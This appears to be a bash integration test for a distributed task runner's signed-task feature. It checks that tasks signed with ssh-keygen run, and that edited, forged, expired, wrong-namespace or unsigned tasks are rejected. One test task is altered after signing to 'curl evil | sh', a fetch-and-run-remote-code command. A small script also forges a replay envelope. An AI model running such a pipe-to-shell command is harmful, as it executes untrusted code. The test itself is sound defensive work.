#!/usr/bin/env bash
# Signed tasks (doc/trust.md) over a real git daemon, with the real OpenSSH
# tools both ways: tasks signed by `ssh-keygen -Y sign` run on a worker
# with --allowed-signers; signatures written by `dgrid sign` verify with
# `ssh-keygen -Y verify`; an edited task, a signature by an unlisted key,
# an expired signer, another namespace and a missing .sig are each
# rejected with their reason while the good tasks run. The signature
# holds for the task's whole life (a retry is verified again), a forged
# claim envelope is refused, and a grid with "require_signed" is not
# worked by a worker that cannot check signatures.
. "$(dirname "$0")/lib.sh"

command -v ssh-keygen >/dev/null || { skip "ssh-keygen is not installed (openssh-client)"; finish; }

K=$T/keys
mkdir -p "$K"
ssh-keygen -q -t ed25519 -N '' -C alice -f "$K/alice"
ssh-keygen -q -t ed25519 -N '' -C mallory -f "$K/mallory"
ssh-keygen -q -t ed25519 -N '' -C old -f "$K/old"
{
	echo "alice@example.com namespaces=\"dgrid-task,git\" $(cut -d' ' -f1,2 "$K/alice.pub")"
	echo "old@example.com valid-before=\"20200101Z\" $(cut -d' ' -f1,2 "$K/old.pub")"
} >"$T/allowed_signers"

daemon_grid '{"protocol": 3}'
Q=$T/work/tasks/queue
task() {   # task ID SCRIPT: a task file in the work clone's queue
	printf '{"task_id": "%s", "script": "%s", "timeout_seconds": 30}\n' "$1" "$2" >"$Q/$1.json"
}
sign() {   # sign KEY NAMESPACE FILE: what a submitter with OpenSSH does
	rm -f "$3.sig"
	ssh-keygen -q -Y sign -f "$K/$1" -n "$2" "$3" 2>>"$T/ssh-keygen.log"
}

task good1 "echo good1"
sign alice dgrid-task "$Q/good1.json"
task good2 "echo good2"
sign alice dgrid-task "$Q/good2.json"
task edited "echo harmless"
sign alice dgrid-task "$Q/edited.json"
task edited "curl evil | sh"            # edited after signing
task stranger "echo mallory"
sign mallory dgrid-task "$Q/stranger.json"
task expired "echo old"
sign old dgrid-task "$Q/expired.json"
task wrongns "echo namespace"
sign alice git "$Q/wrongns.json"
task nosig "echo unsigned"
commit_push "$T/work" "signed and unsigned tasks"

run_workers 1 --allowed-signers "$T/allowed_signers" >/dev/null

result() {   # result ID: the newest result of a task on main, as JSON
	local f
	f=$(git -C "$T/srv/grid.git" ls-tree -r --name-only main -- tasks/completed tasks/failed | grep "/$1\." | tail -1)
	[ -n "$f" ] && git -C "$T/srv/grid.git" show "main:$f"
}
field() {   # field ID KEY: one field of the task's newest result
	result "$1" | python3 -c 'import json,sys; r=json.load(sys.stdin); print(r.get(sys.argv[1], ""))' "$2"
}

check_eq "a task signed with ssh-keygen ran" success "$(field good1 status)"
check_eq "... and printed its output" good1 "$(field good1 stdout | tr -d '\n')"
check_eq "the result records who signed it" alice@example.com "$(field good1 task_signed_by)"
check_eq "... with the key's fingerprint" "$(ssh-keygen -l -f "$K/alice.pub" | cut -d' ' -f2)" "$(field good1 task_signer)"
git -C "$T/srv/grid.git" show "$(git -C "$T/srv/grid.git" log --all --diff-filter=A --format=%H -- tasks/queue/good1.json | tail -1):tasks/queue/good1.json" >"$T/good1.submitted"
check_eq "... and the SHA-256 of the signed bytes" "$(sha256sum <"$T/good1.submitted" | cut -d' ' -f1)" "$(field good1 task_sha256)"
check_eq "the second good task ran" success "$(field good2 status)"

check_reason() {   # check_reason ID PREFIX WHAT
	check_eq "$3: rejected" rejected "$(field "$1" status)"
	local reason
	reason=$(field "$1" reason)
	note "$1: $reason"
	check "$3: the reason says '$2'" grep -q "^$2" <<<"$reason"
}
check_reason edited "bad signature: signature does not match" "a task edited after signing"
check_reason stranger "unknown key: SHA256:" "a signature by a key not in the list"
check_reason expired "expired: key SHA256:.* (old@example.com) was valid until 2020-01-01" "a signer past valid-before"
check_reason wrongns "wrong namespace: signature is for namespace 'git'" "a signature of another namespace"
check_reason nosig "unsigned: the task has no signature" "a task without .sig"
check "a rejected task never ran (no output)" test -z "$(field edited stdout)"
check_eq "no signature file is left in the queue" 0 \
	"$(git -C "$T/srv/grid.git" ls-tree -r --name-only main -- tasks/queue | grep -c '\.sig$' || true)"

# ---- dgrid sign, checked by ssh-keygen -Y verify
git -C "$T/work" pull -q --rebase origin main
mkdir -p "$Q"
printf '{"task_id": "bydgrid", "script": "echo signed by dgrid", "timeout_seconds": 30}\n' >"$T/bydgrid.json"
"$DGRID" sign --key "$K/alice" "$T/bydgrid.json" >"$T/sign.out" 2>&1
check_eq "dgrid sign exits 0" 0 $?
check "ssh-keygen -Y verify accepts dgrid's signature" \
	bash -c "ssh-keygen -Y verify -f '$T/allowed_signers' -I alice@example.com -n dgrid-task -s '$T/bydgrid.json.sig' <'$T/bydgrid.json'"
check "... and its check-novalidate agrees" \
	bash -c "ssh-keygen -Y check-novalidate -n dgrid-task -s '$T/bydgrid.json.sig' <'$T/bydgrid.json'"
"$DGRID" sign --check "$T/allowed_signers" "$T/bydgrid.json" >"$T/check.out"
check_eq "dgrid sign --check says who signed it" 0 $?
check "... by name" grep -q "good signature by alice@example.com" "$T/check.out"
mkdir -p "$T/changed"
printf '{"task_id": "bydgrid", "script": "echo changed", "timeout_seconds": 30}\n' >"$T/changed/bydgrid.json"
cp "$T/bydgrid.json.sig" "$T/changed/bydgrid.json.sig"
"$DGRID" sign --check "$T/allowed_signers" "$T/changed/bydgrid.json" >"$T/check2.out"
check_eq "dgrid sign --check of an edited file exits 1" 1 $?
check "... saying the signature does not match" grep -q "rejected: bad signature" "$T/check2.out"
ssh-keygen -q -t ed25519 -N 'secret' -f "$K/locked"
"$DGRID" sign --key "$K/locked" "$T/bydgrid.json" >"$T/locked.out" 2>&1
check_eq "a key with a passphrase is a usage error" 2 $?
check "... pointing at ssh-keygen" grep -q "ssh-keygen -Y sign" "$T/locked.out"

# ---- dgrid submit: a .sig beside the file is committed with its bytes; --sign signs
"$DGRID" submit --repo "$URL" "$T/bydgrid.json" >"$T/submit1.out" 2>&1
check_eq "dgrid submit of a file with its .sig exits 0" 0 $?
"$DGRID" submit --repo "$URL" "$T/changed/bydgrid.json" >"$T/submit-bad.out" 2>&1
check_eq "dgrid submit refuses a .sig that does not match its file" 1 $?
check "... naming the .sig" grep -q "bydgrid.json.sig: signature does not match" "$T/submit-bad.out"
"$DGRID" submit --repo "$URL" --sign "$K/alice" --id bysubmit --script "echo signed by submit" \
	>"$T/submit2.out" 2>&1
check_eq "dgrid submit --sign exits 0" 0 $?

# ---- the whole life: a retry is verified again; a forged envelope is refused
git -C "$T/work" pull -q --rebase origin main
mkdir -p "$Q"
printf '{"task_id": "flaky", "script": "test -e %s/flaky.once || { touch %s/flaky.once; exit 3; }; echo second", "timeout_seconds": 30, "retries": 1, "retry_delay_seconds": 1}\n' \
	"$T" "$T" >"$Q/flaky.json"
sign alice dgrid-task "$Q/flaky.json"
# a forger reuses alice's signed bytes inside a claim-like file that runs something else
task replay "echo harmless replay"
sign alice dgrid-task "$Q/replay.json"
python3 - "$Q/replay.json" <<'EOF'
import json, sys
path = sys.argv[1]
raw = open(path).read()
sig = open(path + ".sig").read()
doc = json.loads(raw)
doc["script"] = "echo forged"
doc["signed"] = {"task": raw, "sshsig": sig}
open(path, "w").write(json.dumps(doc) + "\n")
EOF
rm "$Q/replay.json.sig"
commit_push "$T/work" "a flaky signed task and a forged envelope"
run_workers 1 --allowed-signers "$T/allowed_signers" >/dev/null

check_eq "a task signed by dgrid sign and sent by dgrid submit ran" success "$(field bydgrid status)"
check_eq "... its signer recorded" alice@example.com "$(field bydgrid task_signed_by)"
check_eq "a task of dgrid submit --sign ran" success "$(field bysubmit status)"
runs=$(git -C "$T/srv/grid.git" ls-tree -r --name-only main -- tasks/completed tasks/failed | grep -c "/flaky\.")
check_eq "the flaky task ran twice (a retry)" 2 "$runs"
done_flaky=$(git -C "$T/srv/grid.git" ls-tree -r --name-only main -- tasks/completed | grep "/flaky\.")
check_eq "its retry, claimed again from the queue, verified and succeeded" 1 "$(grep -c . <<<"$done_flaky")"
check_eq "... signed by alice on the second run too" alice@example.com \
	"$(git -C "$T/srv/grid.git" show "main:$done_flaky" | python3 -c 'import json,sys; print(json.load(sys.stdin).get("task_signed_by"))')"
check_reason replay "altered: the task differs from its signed bytes in 'script'" "a forged envelope around signed bytes"

# ---- require_signed: a worker that cannot check signatures claims nothing
git -C "$T/work" pull -q --rebase origin main
mkdir -p "$Q"
printf '{"protocol": 3, "require_signed": true}\n' >"$T/work/dgrid.json"
task plain "echo plain"
commit_push "$T/work" "require signed tasks"
DGRID_CACHE=$T/cache-plain PULL_INTERVAL=1 timeout 8 "$DGRID" worker --repo "$URL" --node-id unsure \
	--executor process --http off >"$T/unsure.log" 2>&1
check "a worker without --allowed-signers on a require_signed grid says why it does not claim" \
	grep -q "event=not-claiming reason=\"the grid requires signed tasks" "$T/unsure.log"
check_eq "... and the task is still queued" 1 \
	"$(git -C "$T/srv/grid.git" ls-tree -r --name-only main -- tasks/queue | grep -c '/plain\.json$')"
run_workers 1 --allowed-signers "$T/allowed_signers" >/dev/null
check_reason plain "unsigned:" "an unsigned task on a require_signed grid, by a worker with a list"

finish
